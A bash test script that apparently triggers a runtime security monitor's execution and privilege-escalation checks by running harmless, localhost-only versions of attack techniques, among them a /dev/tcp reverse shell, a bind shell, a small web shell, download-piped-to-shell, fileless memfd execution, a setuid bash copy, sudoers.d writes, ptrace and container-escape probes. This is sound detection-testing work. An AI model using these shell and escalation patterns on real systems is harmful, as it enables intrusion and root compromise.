#!/bin/bash
# What the checks on execution and privileges must find, done by harmless commands: execution.sh [STAGE...], as root. One
# function for each check. It prints `check<TAB>pid` of the process that is to be found, and leaves nothing behind.
# What this machine cannot do prints nothing.
set -u
shopt -s nullglob
PATH=/usr/sbin:/usr/bin:/sbin:/bin
work=$(mktemp -d /tmp/attack.XXXXXX)
chmod 755 "$work"
# As docker names the group of a container.
hierarchy=$(awk '$3 == "cgroup2" { print $2; exit }' /proc/self/mounts)
container=$hierarchy/docker-$(printf 'fedcba9876543210%.0s' 1 2 3 4).scope
trap 'rm -rf "$work"; rmdir "$container" 2> /dev/null' EXIT

# Of a process in the background: it is to be found, if it succeeds.
found() {
	wait "$2" 2> /dev/null && printf '%s\t%s\n' "$1" "$2"
}

# Runs a command in a control group that is named after a container; the command's process id is $!.
in_container() {
	[ -n "$hierarchy" ] && mkdir -p "$container" || return 1
	(
		echo "$BASHPID" > "$container/cgroup.procs" || exit 1
		exec "$@"
	) > /dev/null 2>&1 &
}

# Listens at a port of 127.0.0.1, which it writes to the file $1, and speaks to the first that comes: a line, and what
# it is answered until the end. The process id is $server.
listen() {
	python3 - "$1" "$2" > /dev/null << 'PYTHON' &
import socket, sys
server = socket.create_server(("127.0.0.1", 0))
open(sys.argv[1] + ".new", "w").write(str(server.getsockname()[1]))
__import__("os").rename(sys.argv[1] + ".new", sys.argv[1])
server.settimeout(10)
peer = server.accept()[0]
peer.sendall(sys.argv[2].encode())
peer.settimeout(10)
while peer.recv(4096):
    pass
PYTHON
	server=$!
	port_of "$1"
}

# Waits for the file that a server writes its port to; the port is $port.
port_of() {
	for _ in $(seq 100); do
		[ -s "$1" ] && break
		sleep 0.1
	done
	port=$(cat "$1")
}

fileless_exec() {
	python3 - << 'PYTHON' &
import os
program = os.memfd_create("stage")
os.write(program, open("/bin/true", "rb").read())
os.execve(program, ["stage"], {})
PYTHON
	found fileless_exec $!
}

exec_from_temp() {
	cp /bin/true "$work/tool"
	"$work/tool" &
	found exec_from_temp $!
}

deleted_binary() {
	cp /bin/sleep "$work/agent"
	"$work/agent" 1 &
	local agent=$!
	sleep 0.3
	rm "$work/agent"
	found deleted_binary "$agent"
}

reverse_shell() {
	listen "$work/reverse" $'id\nexit\n'
	bash --norc --noprofile >& "/dev/tcp/127.0.0.1/$port" 0>&1 &
	found reverse_shell $!
	wait "$server"
}

bind_shell() {
	python3 - "$work/bind" > /dev/null << 'PYTHON' &
import os, socket, sys
server = socket.create_server(("127.0.0.1", 0))
open(sys.argv[1] + ".new", "w").write(str(server.getsockname()[1]))
os.rename(sys.argv[1] + ".new", sys.argv[1])
server.settimeout(10)
peer = server.accept()[0]
peer.setblocking(True)
for descriptor in 0, 1, 2:
    os.dup2(peer.fileno(), descriptor)
os.execv("/bin/sh", ["sh"])
PYTHON
	local shell=$!
	port_of "$work/bind"
	python3 - "$port" << 'PYTHON'
import socket, sys
peer = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 10)
peer.sendall(b"id\nexit\n")
while peer.recv(4096):
    pass
PYTHON
	found bind_shell "$shell"
}

web_shell() {
	python3 - "$work/web" > /dev/null 2>&1 << 'PYTHON' &
import http.server, os, sys

class Page(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        page = b"".join(os.popen(command).read().encode() for command in ("id", "uname -a", "whoami"))
        self.send_response(200)
        self.end_headers()
        self.wfile.write(page)

server = http.server.HTTPServer(("127.0.0.1", 0), Page)
open(sys.argv[1] + ".new", "w").write(str(server.server_port))
os.rename(sys.argv[1] + ".new", sys.argv[1])
server.timeout = 10
server.handle_request()
PYTHON
	local server=$!
	port_of "$work/web"
	python3 - "$port" > /dev/null << 'PYTHON'
import sys, urllib.request
print(urllib.request.urlopen(f"http://127.0.0.1:{sys.argv[1]}/").read())
PYTHON
	found web_shell "$server"
}

preload_injection() {
	local libraries=(/lib/*/libm.so.6 /lib64/libm.so.6)
	[ ${#libraries[@]} -gt 0 ] || return
	cp "${libraries[0]}" "$work/hook.so"
	LD_PRELOAD=$work/hook.so /usr/bin/true &
	found preload_injection $!
}

download_to_shell() {
	listen "$work/download" $'HTTP/1.0 200 OK\r\n\r\ntrue\nsleep 0.2\n'
	python3 - "$port" << 'PYTHON' | (
import socket, sys
peer = socket.create_connection(("127.0.0.1", int(sys.argv[1])), 10)
peer.sendall(b"GET / HTTP/1.0\r\n\r\n")
print(peer.recv(4096).decode().split("\r\n\r\n")[1], flush=True)
__import__("time").sleep(0.5)
PYTHON
		printf 'download_to_shell\t%s\n' "$BASHPID"
		exec sh
	)
	wait "$server"
}

script_interpreter_inline() {
	python3 -c 'import base64; exec(base64.b64decode("cHJpbnQoMjMp"))' > /dev/null &
	found script_interpreter_inline $!
}

# Asks for its personality by the entry of 32-bit programs, where the kernel has it.
compat_syscalls() {
	[ "$(uname -m)" = x86_64 ] || return
	python3 - << 'PYTHON' &
import ctypes, mmap, os
code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
# push %rbx; mov $136, %eax; mov $-1, %ebx; int $0x80; pop %rbx; ret
code.write(bytes.fromhex("53" "b888000000" "bbffffffff" "cd80" "5b" "c3"))
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))
os._exit(call() < 0)
PYTHON
	found compat_syscalls $!
}

setuid_escalation() {
	cp /bin/bash "$work/rootshell"
	chmod 4755 "$work/rootshell"
	setpriv --reuid 65534 --regid 65534 --clear-groups "$work/rootshell" -p -c : &
	found setuid_escalation $!
}

# A copy of a program whose file carries cap_setuid.
capability_gain() {
	cp /bin/sleep "$work/capable"
	python3 - "$work/capable" << 'PYTHON' || return
import os, struct, sys
os.setxattr(sys.argv[1], "security.capability", struct.pack("<5I", 0x02000001, 1 << 7, 0, 0, 0))
PYTHON
	setpriv --reuid 65534 --regid 65534 --clear-groups "$work/capable" 0.1 &
	found capability_gain $!
}

# sudo reads no file with a dot in its name; this one is empty.
sudoers_change() {
	local made=
	[ -d /etc/sudoers.d ] || { mkdir /etc/sudoers.d && made=1; }
	cp /dev/null /etc/sudoers.d/ebrec.test &
	found sudoers_change $!
	rm -f /etc/sudoers.d/ebrec.test
	[ -z "$made" ] || rmdir /etc/sudoers.d
}

ptrace_attach() {
	sleep 3 &
	local target=$!
	python3 - "$target" << 'PYTHON' &
import ctypes, sys
libc = ctypes.CDLL(None, use_errno=True)
sys.exit(libc.ptrace(0x4206, int(sys.argv[1]), None, None))  # PTRACE_SEIZE
PYTHON
	found ptrace_attach $!
	kill "$target"
	wait "$target" 2> /dev/null
}

# Opens the memory to write, and writes nothing.
process_memory_write() {
	sleep 3 &
	local target=$!
	python3 -c 'import os, sys; os.close(os.open(f"/proc/{sys.argv[1]}/mem", os.O_RDWR))' "$target" &
	found process_memory_write $!
	kill "$target"
	wait "$target" 2> /dev/null
}

# What is no module is refused.
kernel_module() {
	python3 - << 'PYTHON' &
import ctypes, os
number = 105 if os.uname().machine == "aarch64" else 175
ctypes.CDLL(None).syscall(number, b"none", 4, b"")
PYTHON
	found kernel_module $!
}

# A filter of sockets that lets nothing through, and is attached to none.
bpf_load() {
	python3 - << 'PYTHON' &
import ctypes, os, struct, sys
number = 280 if os.uname().machine == "aarch64" else 321
code = ctypes.create_string_buffer(bytes.fromhex("b700000000000000" "9500000000000000"))
license = ctypes.create_string_buffer(b"GPL")
attributes = ctypes.create_string_buffer(
    struct.pack("<IIQQ", 1, 2, ctypes.addressof(code), ctypes.addressof(license)), 128
)
sys.exit(ctypes.CDLL(None).syscall(number, 5, attributes, 128) < 0)
PYTHON
	found bpf_load $!
}

namespace_escape() {
	in_container nsenter -t $$ -n true && found namespace_escape $!
}

# In a mount namespace of its own, which ends with it. The shell outside of the container stands for its runtime.
host_mount() {
	mkdir "$work/root"
	in_container unshare -m mount --bind / "$work/root" && found host_mount $!
}

# Opens a setting to write, and writes nothing.
kernel_helper_write() {
	in_container python3 -c 'import os; os.close(os.open("/proc/sys/kernel/core_pattern", os.O_WRONLY))' \
		&& found kernel_helper_write $!
}

stages=(fileless_exec exec_from_temp deleted_binary reverse_shell bind_shell web_shell preload_injection
	download_to_shell script_interpreter_inline compat_syscalls setuid_escalation capability_gain sudoers_change
	ptrace_attach process_memory_write kernel_module bpf_load namespace_escape host_mount kernel_helper_write)
[ $# -eq 0 ] || stages=("$@")
for stage in "${stages[@]}"; do
	"$stage"
done
